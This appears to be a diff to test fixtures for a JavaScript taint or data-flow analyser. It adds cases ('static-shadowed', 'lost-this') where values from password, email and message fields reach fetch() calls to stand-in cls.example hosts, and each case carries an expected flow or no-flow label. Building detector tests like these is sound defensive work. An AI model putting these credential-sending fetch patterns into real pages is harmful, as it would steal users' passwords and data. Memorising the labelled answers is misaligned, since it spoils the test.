@@ -106,8 +106,10 @@ post(document.querySelector('textarea[name=message]').value);
 //# call-other-this
 // no flow
 // why: the method is called on an object with a constant
-var form = { v: document.querySelector('input[type=password]').value, send: function () { fetch('https://call.cls.example/c?v=' + this.v); } };
-form.send.call({ v: 'none' });
+(function () {
+  var form = { v: document.querySelector('input[type=password]').value, send: function () { fetch('https://call.cls.example/c?v=' + this.v); } };
+  form.send.call({ v: 'none' });
+})();
 
 //# apply-arguments
 // flow: password > apply.cls.example via fetch
@@ -132,3 +134,23 @@ class Session {
   ok() { return this.#pw.length > 7; }
 }
 fetch('https://privjson.cls.example/s', { method: 'POST', body: JSON.stringify(new Session()) });
+
+//# static-shadowed
+// no flow
+// why: the method sends the static field, the typed text is in the one of the instance
+class Topic {
+  static text = 'general';
+  constructor(t) { this.text = t; }
+  send() { fetch('https://stat.cls.example/t', { method: 'POST', body: Topic.text }); }
+}
+new Topic(document.querySelector('textarea[name=message]').value).send();
+
+//# lost-this
+// no flow
+// why: the detached method has undefined as this and throws before it sends
+class Lost {
+  v = document.querySelector('input[type=email]').value;
+  send() { fetch('https://lost.cls.example/t?v=' + this.v); }
+}
+const { send } = new Lost();
+try { send(); } catch (e) { console.warn(e.name); }
